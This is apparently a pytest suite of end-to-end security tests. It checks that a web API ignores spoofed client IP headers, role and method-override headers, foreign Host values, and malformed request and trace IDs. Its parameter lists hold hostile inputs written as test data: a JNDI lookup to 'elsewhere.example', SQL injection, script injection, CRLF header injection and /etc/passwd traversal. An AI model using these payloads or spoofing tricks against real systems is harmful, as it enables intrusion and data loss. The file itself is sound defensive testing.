"""What a client says about itself is replaced, refused or ignored, never believed."""

from __future__ import annotations

import json
from uuid import uuid4

import pytest

from tests.e2e.client import PASSWORD, Client
from tests.e2e.sandbox import Sandbox
from tests.e2e.waiting import eventually
from tests.hostile.attack import Attack

LIE = "203.0.113.66"

ADDRESSES = (
    {"X-Forwarded-For": LIE},
    {"X-Forwarded-For": f"127.0.0.1, {LIE}"},
    {"X-Real-IP": LIE},
    {"Forwarded": f"for={LIE};host=elsewhere.example;proto=http"},
    {"X-Client-IP": LIE, "True-Client-IP": LIE, "CF-Connecting-IP": LIE, "X-Cluster-Client-IP": LIE},
    {"X_Real_IP": LIE, "X_Forwarded_For": LIE},
    {"X-Original-Forwarded-For": LIE, "Via": f"1.1 {LIE}"},
)
RIGHTS = (
    {"X-Role": "admin", "X-User-Role": "admin", "X-Admin": "true"},
    {"X-User-Id": str(uuid4()), "X-User": "admin", "Remote-User": "admin", "X-Remote-User": "admin"},
    {"X-Original-URL": "/api/users", "X-Rewrite-URL": "/api/users"},
    {"X-HTTP-Method-Override": "DELETE", "X-Method-Override": "DELETE", "X-HTTP-Method": "DELETE"},
    {"X-Forwarded-Prefix": "/api/users", "X-Forwarded-Path": "/api/users", "X-Script-Name": "/api/users"},
    {"X-Internal": "1", "X-Longhouse-Internal": "1", "X-Debug": "1", "X-Forwarded-Proto": "http"},
)
HOSTS = ("elsewhere.example", "127.0.0.1", "localhost", "localhost:8080", "[::1]", "@elsewhere.example", "a" * 300)
REQUEST_IDS = (
    "short-1",
    "a" * 65,
    "a" * 4000,
    "id\twith\ttabs",
    "<script>alert(1)</script>",
    "'; DROP TABLE users; --",
    "${jndi:ldap://elsewhere.example/a}",
    "{{7*7}}",
    "%0d%0aX-Injected: yes",
    "../../../../etc/passwd",
)
TRACES = (
    "00-" + "0" * 32 + "-b7ad6b7169203331-01",
    "00-0af7651916cd43dd8448eb211c80319c-" + "0" * 16 + "-01",
    "ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
    "00-0AF7651916CD43DD8448EB211C80319C-b7ad6b7169203331-01",
    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01-extra",
    "00-" + "g" * 32 + "-b7ad6b7169203331-01",
    "'; DROP TABLE users; --",
    "0" * 5000,
)


@pytest.mark.parametrize("headers", ADDRESSES, ids=str)
def test_a_claimed_address_is_recorded_nowhere(
    attack: Attack, customer: Client, sandbox: Sandbox, headers: dict[str, str]
) -> None:
    mark = uuid4().hex
    body = {"email": customer.email, "password": PASSWORD}
    attack(customer, "POST", "/api/auth/login", json=body, headers={**headers, "X-Request-Id": mark})
    sessions = attack(customer, "GET", "/api/auth/sessions").json()["items"]
    assert LIE not in json.dumps(sessions)
    assert {session["address"] for session in sessions} == {sessions[0]["address"]} != {""}

    def recorded() -> list[str]:
        text = sandbox.run(f"journalctl -t nginx_access REQUEST_ID={mark} -o cat --no-pager")
        return text.splitlines()

    (line,) = eventually(recorded, within=10, what="record of the edge")
    assert json.loads(line)["client"] == sessions[0]["address"]


def test_a_claimed_address_does_not_escape_the_throttle(attack: Attack, customer: Client, anybody: Client) -> None:
    statuses = []
    for attempt in range(30):
        headers = {"X-Forwarded-For": f"203.0.113.{attempt}", "X-Real-IP": f"203.0.113.{attempt}"}
        body = {"email": customer.email, "password": f"guess number {attempt}"}
        statuses.append(attack(anybody, "POST", "/api/auth/login", json=body, headers=headers).status_code)
    assert set(statuses) == {401, 429}


@pytest.mark.parametrize("headers", RIGHTS, ids=lambda headers: next(iter(headers)))
def test_claimed_rights_give_none(attack: Attack, customer: Client, anybody: Client, headers: dict[str, str]) -> None:
    assert attack(anybody, "GET", "/api/users", headers=headers).status_code == 401
    assert attack(customer, "GET", "/api/users", headers=headers).status_code == 403
    own = attack(customer, "GET", f"/api/users/{customer.user['id']}", headers=headers)
    assert own.json() == customer.user


@pytest.mark.parametrize("host", HOSTS)
def test_other_hosts_are_not_served(attack: Attack, anybody: Client, host: str) -> None:
    assert attack(anybody, "GET", "/api/orders", headers={"Host": host}).status_code in (400, 421, 431)


def test_a_claimed_host_ends_up_in_no_answer(attack: Attack, anybody: Client) -> None:
    headers = {"X-Forwarded-Host": "elsewhere.example", "X-Host": "elsewhere.example"}
    for path in ("/docs", "/openapi/user.json", "/health", "/api/orders", "/nothing"):
        answer = attack(anybody, "GET", path, headers=headers)
        assert "elsewhere.example" not in answer.text + str(answer.headers)


@pytest.mark.parametrize("claimed", REQUEST_IDS)
def test_a_malformed_request_id_goes_no_further(
    attack: Attack, anybody: Client, sandbox: Sandbox, claimed: str
) -> None:
    answer = attack(anybody, "GET", "/api/orders", headers={"X-Request-Id": claimed})
    given = answer.headers["x-request-id"]
    assert given != claimed
    assert answer.json()["request_id"] == given

    def known() -> str:
        return sandbox.run(f"journalctl REQUEST_ID={given} -o cat --no-pager")

    assert claimed not in eventually(known, within=10, what="record of the edge")


@pytest.mark.parametrize("claimed", TRACES, ids=lambda claimed: claimed[:60])
def test_a_malformed_trace_goes_no_further(attack: Attack, anybody: Client, claimed: str) -> None:
    assert attack(anybody, "GET", "/api/orders", headers={"traceparent": claimed}).headers["traceparent"] != claimed
